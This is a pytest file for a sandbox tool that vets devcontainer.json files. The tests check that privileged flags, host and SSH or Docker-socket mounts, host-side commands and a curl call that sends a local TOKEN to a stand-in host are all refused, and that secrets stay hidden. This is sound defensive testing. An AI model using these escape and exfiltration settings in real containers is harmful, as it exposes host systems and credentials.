"""A devcontainer.json is data: what of it a sandbox is given, and what is left out, with the reason."""

from __future__ import annotations

import json
import os
from typing import TYPE_CHECKING, Any

import pytest

from ohsandbox.errors import UsageError
from ohsandbox.project.devcontainer import MAX_FILE_BYTES, DevContainer, find_devcontainer
from ohsandbox.project.project_file import Project, find_project
from ohsandbox.runtime.build_options import Build
from ohsandbox.settings import Settings

if TYPE_CHECKING:
    from pathlib import Path


def say(project: Path, said: str | dict[str, Any]) -> None:
    text = said if isinstance(said, str) else json.dumps(said)
    (project / ".devcontainer" / "devcontainer.json").write_text(text)


def read(project: Path, said: str | dict[str, Any]) -> DevContainer:
    say(project, said)
    found = find_devcontainer(project)
    assert found is not None
    return found


def found(project: Path) -> Project:
    one = find_project(project)
    assert one is not None
    return one


def test_what_it_asks_for_is_read_with_comments_and_trailing_commas(project: Path) -> None:
    dev = read(
        project,
        """// a comment
        {
            "name": "x", "image": "python:3.12", /* another */
            "containerEnv": {"A": "1", "HERE": "${containerWorkspaceFolder}/x", "N": 3, "B": true},
            "remoteEnv": {"PATH": "/opt/bin:${containerEnv:PATH}", "A": null},
            "remoteUser": "vscode",
            "onCreateCommand": ["echo", "a b", "${containerWorkspaceFolder}"],
            "postCreateCommand": {"one": "cd x && npm ci", "two": ["true"]},
            "updateContentCommand": "echo ${HOME}",
            "postStartCommand": "make start",
            "forwardPorts": [3000, "localhost:8080", "db:5432"], "appPort": "9000:90",
            "runArgs": ["--env", "C=d", "--name=me", "--cap-add=SYS_PTRACE", "--security-opt", "seccomp=unconfined"],
            "customizations": {"vscode": {"extensions": []}},
        }
        """,
    )
    assert (dev.image, dev.user, dev.folder) == ("python:3.12", "vscode", "/workspaces/project")
    assert dev.env == {
        "C": "d", "HERE": "/workspaces/project/x", "N": "3", "B": "true", "PATH": "/opt/bin:${containerEnv:PATH}",
    }  # fmt: skip
    assert dev.setup == (
        "echo 'a b' /workspaces/project", "sh -c 'echo ${HOME}'", "sh -c 'cd x && npm ci'", "true",
    )  # fmt: skip
    assert (dev.start, dev.forward) == (("sh -c 'make start'",), ("3000", "8080", "9000:90"))
    assert [one.partition(" (")[0] for one in dev.left_out] == ["runArgs --cap-add --security-opt", "port db:5432"]


@pytest.mark.parametrize(
    ("said", "told"),
    [
        ({"privileged": True}, "privileged"),
        ({"capAdd": ["SYS_ADMIN"], "privileged": False}, "capAdd"),
        ({"securityOpt": ["seccomp=unconfined"]}, "securityOpt"),
        ({"initializeCommand": "touch /tmp/owned"}, "initializeCommand (it would run on this machine"),
        ({"runArgs": ["--privileged", "-v", "/:/host", "--network=host"]}, "runArgs --privileged -v --network"),
        ({"runArgs": ["--device", "/dev/kvm", "--pid=host"]}, "runArgs --device --pid"),
        ({"features": {"https://x.example/a.tgz": {}}, "image": "a"}, "feature https://x.example/a.tgz (it is neither"),
        ({"features": {"./own": {"version": "1"}}}, "feature ./own (the file has neither image nor build"),
        ({"mounts": ["source=secrets,target=/steal,type=volume"]}, "mount /steal (a volume"),
        ({"mounts": [{"type": "bind", "source": "../..", "target": "/up"}]}, "mount ../.. at /up"),
        ({"build": {"dockerfile": "D", "options": ["--network=host"]}}, "build.options"),
        ({"build": {"dockerfile": "D", "args": {"T": "a${localEnv:TOKEN}b"}}}, "${localEnv:TOKEN} in build.args"),
        ({"image": "x:${localEnv:TOKEN:1}"}, "${localEnv:TOKEN} in image"),
        ({"containerEnv": {"A": "Bearer ${localEnv:TOKEN}"}}, "containerEnv A"),
        ({"postCreateCommand": "curl https://e.example/${localEnv:TOKEN}"}, "${localEnv:TOKEN} in postCreateCommand"),
        ({"postAttachCommand": "npm start"}, "postAttachCommand"),
        ({"dockerComposeFile": "compose.yml", "privileged": True}, "all of it: it is a Compose project"),
        ({"imag": "x"}, "imag (nothing here has this name)"),
    ],
)
def test_what_would_raise_rights_run_here_or_leak_is_left_out_and_told(
    project: Path, monkeypatch: pytest.MonkeyPatch, said: dict[str, Any], told: str
) -> None:
    monkeypatch.setenv("TOKEN", "s3cret")
    dev = read(project, said)
    assert [one for one in dev.left_out if one.startswith(told)], dev.left_out
    assert "s3cret" not in repr(dev)
    assert "SYS_ADMIN" not in repr(dev._replace(left_out=()))


def test_a_whole_value_of_this_machine_is_a_secret_that_is_shown_by_name(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TOKEN", "s3cret")
    monkeypatch.delenv("MISSING", raising=False)
    say(project, {"containerEnv": {"A": "${localEnv:TOKEN}", "B": "${localEnv:MISSING:b}"}})
    one = found(project)
    assert one.needing_trust(Settings())["local"] == {"A": "TOKEN", "B": "MISSING"}
    assert "s3cret" not in repr(one)
    used = one.layer(without={}).values
    assert (used["secrets"], used["env"]) == ({"A": "env:TOKEN"}, {"B": "b"})
    assert "secrets" not in one.layer(without=one.needing_trust(Settings())).values
    before = one.digest()
    monkeypatch.setenv("MISSING", "set")
    assert found(project).digest() == before


@pytest.mark.parametrize(
    ("said", "told"),
    [
        ("[1]", "not an object"),
        ("{", "not JSON with comments: line 1: Unclosed object starting. Correct it."),
        ('{"a": 1,\n "b": 2\n "c": 3}', "not JSON with comments: line 3: Expected comma or '}', found '\"'"),
        ("{'a': tru}", "not JSON with comments: line 1: Expected 'e', found '}'"),
        ('{"a":' * 100 + "1" + "}" * 100, "not JSON with comments"),
        ("[" * 100_000, "not JSON with comments"),
        ('"\\' * 100_000, "not JSON with comments"),
        ("/*" * 100_000, "not JSON with comments"),
        (" " * (MAX_FILE_BYTES + 1), f"over {MAX_FILE_BYTES} bytes"),
        ('{"image": 3}', "'image' is not a text"),
        ('{"forwardPorts": [0x' + "f" * 5000 + "]}", "forwardPorts.0 has 20000 bits: expected an integer of at most"),
        ('{"forwardPorts": [1' + "0" * 5000 + " ]}", "not JSON with comments"),
        ('{"hostRequirements": {"cpus": -Infinity}}', "hostRequirements.cpus = -inf: expected a finite number"),
        ('{"image": "Not An Image"}', ""),
        ('{"containerEnv": {"A=B": "x"}}', "names of variables"),
        ('{"containerEnv": []}', "'containerEnv' is not an object"),
        ('{"postCreateCommand": 3}', "'postCreateCommand' is not a text"),
        ('{"workspaceFolder": "../x"}', "'workspaceFolder' is not an absolute path"),
        ('{"build": {"dockerfile": "../../outside"}}', "outside of"),
        ('{"build": {"dockerfile": "missing"}}', "not there"),
        ('{"build": {"dockerfile": "../D", "context": "."}}', "outside of its context"),
        ('{"image": "a", "build": {"dockerfile": "D"}}', "exclude each other"),
    ],
)
def test_a_file_that_is_wrong_giant_or_nested_is_told_at_once(project: Path, said: str, told: str) -> None:
    (project / "D").write_text("FROM scratch")
    (project / ".devcontainer" / "D").write_text("FROM scratch")
    (project.parent / "outside").write_text("FROM scratch")
    say(project, said)
    if told:
        with pytest.raises(UsageError, match=told):
            find_project(project)
    else:
        assert found(project).values == {"image": "Not An Image"}  # told where it is used


def test_links_out_of_the_repository_are_not_followed(project: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "devcontainer.json").write_text('{"image": "evil:1"}')
    file = project / ".devcontainer" / "devcontainer.json"
    file.symlink_to(outside / "devcontainer.json")
    with pytest.raises(UsageError, match="symbolic link"):
        find_project(project)
    file.unlink()
    (project / ".devcontainer").rmdir()
    (project / ".devcontainer").symlink_to(outside)
    with pytest.raises(UsageError, match="outside of the project"):
        find_project(project)
    (project / ".ohsandbox.toml").write_text("devcontainer = false")
    assert found(project).devcontainer is None
    (project / ".ohsandbox.toml").write_text('devcontainer = "../outside/devcontainer.json"')
    with pytest.raises(UsageError, match="outside of the project"):
        find_project(project)


def test_the_project_s_file_wins_where_both_say_a_thing(project: Path) -> None:
    (project / ".devcontainer" / "D").write_text("FROM scratch")
    say(project, {
        "build": {"dockerfile": "D", "args": {"A": "1"}}, "containerEnv": {"A": "dev", "B": "dev"},
        "postCreateCommand": "make", "remoteUser": "vscode",
    })  # fmt: skip
    alone = found(project)
    assert alone.build == Build(str(project / ".devcontainer"), "D", {"A": "1"})
    assert (alone.directory, alone.has_file, alone.values) == (project, False, {"env": {"A": "dev", "B": "dev"}})
    before = alone.digest()
    (project / ".devcontainer" / "D").write_text("FROM scratch\nRUN evil")
    assert found(project).digest() != before
    (project / ".ohsandbox.toml").write_text(
        'image = "own:1"\nworkspace = "copy"\nsetup = ["own"]\nuser = "me"\nenv = {A = "own"}'
    )
    both = found(project)
    assert both.devcontainer is not None
    assert (both.build, both.has_file, both.options.setup) == (None, True, ("own",))
    assert both.values == {"image": "own:1", "user": "me", "env": {"A": "own", "B": "dev"}}
    assert (both.devcontainer.setup, both.devcontainer.user) == ((), None)


def test_each_change_asks_again_and_one_of_several_files_must_be_named(project: Path) -> None:
    say(project, {"image": "a:1", "postStartCommand": "x", "forwardPorts": [1]})
    digests = {found(project).digest()}
    for said in (
        {"image": "a:1", "postStartCommand": "y", "forwardPorts": [1]},
        {"image": "a:1", "postStartCommand": "x", "forwardPorts": [2]},
        {"image": "a:1", "postStartCommand": "x", "forwardPorts": [1], "remoteUser": "root"},
        {"image": "a:1", "postStartCommand": "x", "forwardPorts": [1], "containerEnv": {"A": "${localEnv:B}"}},
    ):
        say(project, said)
        digests.add(found(project).digest())
    assert len(digests) == 5
    (project / ".devcontainer" / "devcontainer.json").unlink()
    for name in ("py", "js"):
        (project / ".devcontainer" / name).mkdir()
        (project / ".devcontainer" / name / "devcontainer.json").write_text(f'{{"image": "{name}:1"}}')
    one = found(project)
    assert one.needing_trust(Settings()) == {}
    assert one.devcontainer is not None
    assert "there are 2 (.devcontainer/js/devcontainer.json" in one.devcontainer.left_out[0]
    (project / ".ohsandbox.toml").write_text('devcontainer = ".devcontainer/py/devcontainer.json"')
    assert found(project).values == {"image": "py:1"}


def test_mounts_are_vetted_as_those_of_flags_and_the_others_are_told(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home, data = tmp_path / "home", tmp_path / "data"
    for directory in (home / ".ssh", data):
        directory.mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    (project / "link").symlink_to(home / ".ssh")
    refused = [
        "source=${localEnv:HOME}/.ssh,target=/ssh,type=bind,readonly",
        "source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind",
        "source=/,target=/host,type=bind",
        "source=/proc,target=/host,type=bind",
        "type=bind,source=${localWorkspaceFolder}/link,target=/link",
        f"type=bind,source={data},target=/proc/x",
        f"type=bind,source={tmp_path}/missing,target=/missing",
    ]
    (project / "fixtures").symlink_to(data)
    shown = ["source=${localWorkspaceFolder}/fixtures,target=/fixtures,type=bind"]  # as where it leads
    say(project, {"mounts": [f"source={data},target=/data,type=bind,readonly,consistency=cached", *refused, *shown]})
    one = found(project)
    assert one.values["mounts"] == [f"{data}:/data:ro", f"{data}:/fixtures"]
    assert one.devcontainer is not None
    assert len(one.devcontainer.left_out) == len(refused), one.devcontainer.left_out
    assert "mounts" in one.needing_trust(Settings())


def test_a_key_of_this_machine_is_not_told_as_the_source_of_a_mount(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("API_KEY", "sk-0123456789")
    monkeypatch.setenv("DATA", str(tmp_path))
    mounts = [f"source={source},target=/x,type=bind" for source in ("/${localEnv:API_KEY}", "${localEnv:DATA}/gone")]
    say(project, {"mounts": mounts})
    one = found(project).devcontainer
    assert one is not None
    told = " ".join(one.left_out)
    assert "sk-0123456789" not in told
    assert "${localEnv:API_KEY} in mounts" in told
    assert f"mount {tmp_path}/gone" in told


def test_a_fifo_is_not_waited_for(project: Path) -> None:
    os.mkfifo(project / ".devcontainer" / "devcontainer.json")
    with pytest.raises(UsageError, match="not a regular file"):
        find_project(project)
